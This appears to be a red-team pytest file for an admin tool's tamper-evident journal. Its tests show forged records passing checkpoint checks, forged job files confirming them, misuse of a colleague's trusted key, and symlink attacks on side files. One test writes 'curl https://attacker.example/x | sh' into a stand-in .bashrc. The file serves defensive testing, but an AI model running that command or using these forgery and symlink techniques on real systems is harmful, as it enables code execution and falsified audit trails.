"""Red-team attacks on the journal's trust (branch h/journal-undo): ``evidence/journal.py``,
``evidence/checkpoints.py``, ``jobs/revert_journal.py``. The attacker can write the user's
data folder (the journal, its checkpoints file, the jobs folder) but has no installation key.
Each test is one attack the current code lets through.
"""

from __future__ import annotations

import contextlib
import sqlite3
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from portal_admin.evidence import journal as jr
from portal_admin.evidence import keys

CHANGE = {
    "kind": "change",
    "profile": "Sandbox",
    "server": "sandbox://built-in",
    "account": "admin@example.test",
    "operation": "accounts.status",
    "fields": {"action": "SUSPEND"},
    "outcome": "ok",
}


def _written(path: Path, n: int = 25) -> None:
    """``n`` records of this installation, checkpointed every ten and at the close: every
    record vouched for."""
    store = keys.MemoryStore()
    journal = jr.Journal(path, signer=lambda: keys.signing_key(store), checkpoint_every=10)
    for i in range(n):
        journal.append({**CHANGE, "targets": [f"ACC{i:06d}"], "before": {"value": "ACTIVE"},
                        "after": {"value": "SUSPENDED"}})  # fmt: skip
    journal.close()
    jr._WRITERS.clear()  # read as a later process does
    return None


def _line(prev: str, body: dict[str, Any]) -> tuple[bytes, str]:
    digest = jr.chain_hash(prev, body)
    return jr.canonical({**body, "prev": prev, "hash": digest}) + b"\n", digest


def _fork(path: Path, after_seq: int, forged: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Append a ``segment`` record naming a break after ``after_seq`` (chained from that
    record, as a real torn tail would be) and ``forged`` records after it, re-using seqs the
    checkpoints already vouch for; the forged records as written."""
    records = list(jr.read(path))
    prev = next(str(r["hash"]) for r in records if r["seq"] == after_seq)
    seq = after_seq + 1
    out, written = [], []
    body = {"kind": "segment", "time": jr.now_iso(), "reason": "torn", "after_seq": after_seq,
            "seq": seq, "segment": 1, "format": jr.FORMAT}  # fmt: skip
    raw, prev = _line(prev, body)
    out.append(raw)
    for record in forged:
        seq += 1
        body = {"time": jr.now_iso(), **record, "seq": seq, "segment": 1, "format": jr.FORMAT}
        raw, digest = _line(prev, body)
        out.append(raw)
        written.append({**body, "prev": prev, "hash": digest})
        prev = digest
    with path.open("ab") as fh:
        fh.write(b"".join(out))
    return written


def test_a_forked_segment_makes_forged_records_vouched_for(tmp_path: Path) -> None:
    """Attack: after a journal of 25 vouched records (checkpoints at 10, 20, 25), append a
    ``segment`` record that claims a break after seq 15 (it chains from record 15, as a real
    one would), then forged records with seqs 17..25 - seqs the checkpoints vouch for. The
    journal verifies (``ok``: a segment is a "recorded break", not a problem; the checkpoint
    at 20 and 25 still find their hash because ``checkpoints.check`` accepts any record of
    that seq), and ``Verification.authenticated`` looks at the seq only, never at the hash,
    inside a vouched range: every forged record counts as authenticated, and a revert of one
    of them (seq above the break, so ACROSS_BREAK does not apply) plans it without
    ``--accept-unauthenticated``. Class of fix: a checkpoint vouches for (seq, hash) pairs of
    the chain it anchors, not for seq numbers: ``authenticated`` compares the digest of the
    record it pinned (or walks the chain back from the anchored hash), and a second record
    with a seq already seen is a problem, not a branch."""
    path = tmp_path / "journal.jsonl"
    _written(path)
    forged = _fork(
        path,
        15,
        [{**CHANGE, "targets": [f"VICTIM{n}"], "before": {"value": "ACTIVE"},
          "after": {"value": "SUSPENDED"}} for n in range(17, 26)],
    )  # fmt: skip
    result = jr.verify(path, expected_key=lambda: None, trusted=lambda: [_fingerprint(path)])
    assert result.ok, result.summary()
    victim = forged[5]  # seq 22, above the break
    assert victim["seq"] == 22
    assert not result.authenticated(victim["seq"], victim["hash"]), (
        "a forged record on a forked branch is authenticated by the seq number alone"
    )


def _fingerprint(path: Path) -> str:
    from portal_admin.evidence import checkpoints

    found = checkpoints.read(checkpoints.checkpoints_path(path))
    return found.checkpoints[0].fingerprint


def test_a_forged_job_file_confirms_a_forged_record(tmp_path: Path) -> None:
    """Attack: whoever can write the journal can write the jobs folder beside it (both in the
    user data folder). They append a forged, correctly chained record "job J suspended
    VICTIM" and create job file J (``JobFile.create`` needs no key) whose line for VICTIM is
    ``done`` with the same before/after. ``JobFiles.confirms`` then vouches for the record:
    a revert believes a record no checkpoint vouches for, on the word of a second file the
    same attacker wrote. Class of fix: a job file is not a witness unless it is
    authenticated itself (its id and lines covered by a signed checkpoint/journal record of
    this installation, e.g. the job's creation record vouched for in the journal), or the
    confirmation is limited to records whose job's creation is vouched for."""
    from portal_admin.jobs import JobFile
    from portal_admin.jobs.revert_journal import JobFiles

    folder = tmp_path / "jobs"
    job = JobFile.create(
        {"kind": "status", "params": {"action": "SUSPEND", "reason": "x"}, "source": "",
         "profile": "Sandbox", "server": "sandbox://built-in", "account": "a"},
        [("VICTIM", "victim", {}, "ACTIVE", "SUSPENDED", None)],
        folder,
    )  # fmt: skip
    job_id, job_path = job.id, job.path
    job.close()
    conn = sqlite3.connect(job_path)
    conn.execute("UPDATE items SET state = 'done'")
    conn.commit()
    conn.close()
    record = {
        **CHANGE,
        "seq": 26,
        "targets": ["VICTIM"],
        "before": {"value": "ACTIVE"},
        "after": {"value": "SUSPENDED", "job": job_id},
    }
    assert not JobFiles(folder).confirms(record), (
        "a job file anyone can write confirmed a forged record"
    )


def test_a_colleagues_trusted_key_vouches_for_records_this_installation_reverts(
    tmp_path: Path,
) -> None:
    """Attack: the trust file is one list for every use - a colleague's key is trusted so that
    their campaign sign-offs and packs verify. That colleague (or whoever holds their key)
    appends a forged change to this installation's journal and a checkpoint signed with
    THEIR key vouching for it. ``journal.verify`` accepts checkpoints of "this installation's
    key or a trusted one", so the forged record is authenticated and a revert believes it,
    though the threat model says "a revert acts only on changes this installation made".
    (The trusted list given here is what revert's default, the trust file, hands in.)
    Class of fix: what a revert believes is vouched for by this installation's own key only
    (or keys trusted for that purpose explicitly: a scope on trust entries), not by every
    key trusted to sign a campaign or a pack."""
    from portal_admin.evidence import checkpoints
    from portal_admin.jobs.revert_journal import Entry, believed

    path = tmp_path / "journal.jsonl"
    _written(path, 10)
    own = _fingerprint(path)
    colleague = Ed25519PrivateKey.generate()
    last = list(jr.read(path))[-1]
    body = {**CHANGE, "time": jr.now_iso(), "targets": ["VICTIM"],
            "before": {"value": "ACTIVE"}, "after": {"value": "SUSPENDED"},
            "seq": 11, "segment": 0, "format": jr.FORMAT}  # fmt: skip
    raw, digest = _line(str(last["hash"]), body)
    with path.open("ab") as fh:
        fh.write(raw)
    checkpoints.append(
        checkpoints.checkpoints_path(path),
        checkpoints.make(colleague, 11, digest, "stop", vouches=[(11, 11)]),
    )
    colleague_fp = keys.fingerprint(colleague.public_key())
    result = jr.verify(path, expected_key=lambda: own, trusted=lambda: [colleague_fp])
    assert result.ok, result.summary()
    record = {**body, "prev": last["hash"], "hash": digest}
    sure, _doubtful = believed([Entry(11, record, "ok")], result, tmp_path / "jobs")
    assert not sure, "a record vouched for by a colleague's key is believed by a revert"


def test_a_torn_tail_is_appended_through_a_planted_link(tmp_path: Path) -> None:
    """Attack: whoever can write the journal's folder ends the journal with a line without
    its newline (a "torn" record whose text is a shell command) and plants ``journal.torn``
    as a symbolic link to a file of the user (here a stand-in for ``~/.bashrc``). The next
    append of the program sets the torn line aside with ``open("ab")`` on ``journal.torn``,
    which follows the link: the attacker's text is appended to the user's file (a command
    run at their next shell). Class of fix: the side file is opened without following links
    (``O_NOFOLLOW``/``O_EXCL`` on a fresh name, or ``lstat`` and refuse a link), owner-only,
    in the journal's folder. (The same code is on ``main``: this test fails there too.)"""
    path = tmp_path / "journal" / "journal.jsonl"
    path.parent.mkdir()
    first = jr.Journal(path)
    for n in range(3):
        first.append({**CHANGE, "targets": [f"ACC{n}"]})
    first.close()
    with path.open("ab") as fh:
        fh.write(b"curl https://attacker.example/x | sh")  # no newline: a torn tail
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# the user's shell start-up\n")
    path.with_suffix(".torn").symlink_to(victim)
    journal = jr.Journal(path)
    try:
        journal.append({**CHANGE, "targets": ["ACC1"]})
    except OSError:
        pass  # refused to follow the link: fine
    finally:
        journal.close()
    assert "attacker.example" not in victim.read_text(), (
        "the torn line was appended to the file a planted link points at"
    )


def test_a_checkpoint_is_written_through_a_planted_link_and_cuts_the_target(
    tmp_path: Path,
) -> None:
    """Attack: as above, with ``journal.checkpoints.jsonl`` planted as a link to a user file
    whose end is not a newline. ``checkpoints.append`` opens it with ``O_APPEND|O_CREAT``
    (links followed), takes the last line for one "cut short by a kill" and ``ftruncate``s
    it away, then appends the checkpoint: the user's file loses its last line and gains a
    line of JSON. Class of fix: as above (no link followed for the journal's side files)."""
    path = tmp_path / "journal" / "journal.jsonl"
    path.parent.mkdir()
    victim = tmp_path / "home" / "notes.txt"
    victim.parent.mkdir()
    victim.write_bytes(b"first line\nthe last line, without a newline")
    (path.parent / "journal.checkpoints.jsonl").symlink_to(victim)
    with contextlib.suppress(OSError):  # refused to follow the link: fine
        _written(path, 3)
    assert victim.read_bytes() == b"first line\nthe last line, without a newline", (
        "a planted link made the checkpoint writer cut and append to a user file"
    )
